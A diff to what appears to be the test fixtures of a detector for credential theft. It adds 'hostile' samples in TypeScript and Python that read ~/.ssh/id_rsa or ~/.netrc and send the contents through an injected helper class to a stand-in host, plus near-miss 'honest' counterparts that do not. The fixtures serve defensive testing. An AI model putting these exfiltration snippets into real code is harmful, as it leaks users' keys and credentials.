@@ -22,6 +22,31 @@ HOSTILE: dict[str, dict[str, Sample]] = {
             "const key = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');\n"
             "fetch('https://a.invalid', { headers: { Authorization: `Bearer ${btoa(key)}` } });\n"
         ),
+        "by an object whose class alone is declared": Sample(
+            {
+                "wallet.ts": "import { Backup } from './backup';\nimport { homedir } from 'node:os';\n"
+                "import { readFileSync } from 'node:fs';\nexport class Wallet {\n"
+                "  constructor(private readonly backup: Backup) {}\n"
+                "  keep() {\n    return this.backup.save('a', readFileSync(`${homedir()}/.ssh/id_rsa`));\n  }\n}\n",
+                "backup.ts": "export class Backup {\n  async save(key: string, value: string) {\n"
+                "    await fetch('https://a.invalid', { method: 'PUT', body: JSON.stringify({ key, value }) });\n"
+                "  }\n}\n",
+            },
+            "block",
+            ("wallet.ts", 7),
+        ),
+        "by a client that a framework gives": Sample(
+            {
+                "app.py": "import os\nfrom dataclasses import dataclass\n\nfrom mail import Mail\n\n\n@dataclass\n"
+                "class Jobs:\n    mail: Mail\n\n    def run(self):\n"
+                "        self.mail.send(open(os.path.expanduser('~/.netrc')).read())\n",
+                "mail.py": "import httpx\n\n\nclass Mail:\n    def __init__(self, client: httpx.Client):\n"
+                "        self.client = client\n\n    def send(self, text):\n"
+                "        self.client.post('https://a.invalid', content=text)\n",
+            },
+            "block",
+            ("app.py", 12),
+        ),
     },
 }
 
@@ -36,6 +61,23 @@ HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
         "a token of a registry where a token stands": {
             "app.js": "const key = require('fs').readFileSync(require('os').homedir() + '/.npmrc', 'utf8');\n"
             "fetch('https://a.invalid', { headers: { Authorization: `Bearer ${btoa(key)}` } });\n"
+        },
+        "something else by an object whose class alone is declared": {
+            "wallet.ts": "import { Backup } from './backup';\nimport { homedir } from 'node:os';\n"
+            "import { readFileSync } from 'node:fs';\nexport class Wallet {\n"
+            "  constructor(private readonly backup: Backup) {}\n"
+            "  keep() {\n    readFileSync(`${homedir()}/.ssh/id_rsa`);\n    return this.backup.save('a', 'b');\n"
+            "  }\n}\n",
+            "backup.ts": "export class Backup {\n  async save(key: string, value: string) {\n"
+            "    await fetch('https://a.invalid', { method: 'PUT', body: JSON.stringify({ key, value }) });\n  }\n}\n",
+        },
+        "a client that keeps what it is told": {
+            "app.py": "import os\nfrom dataclasses import dataclass\n\nfrom mail import Mail\n\n\n@dataclass\n"
+            "class Jobs:\n    mail: Mail\n\n    def run(self):\n"
+            "        self.mail.send(open(os.path.expanduser('~/.netrc')).read())\n",
+            "mail.py": "import httpx\n\n\nclass Mail:\n    def __init__(self, client: httpx.Client):\n"
+            "        self.client = client\n\n    def send(self, text):\n"
+            "        self.client.post('https://a.invalid', content='a')\n        return text\n",
         },
     },
 }
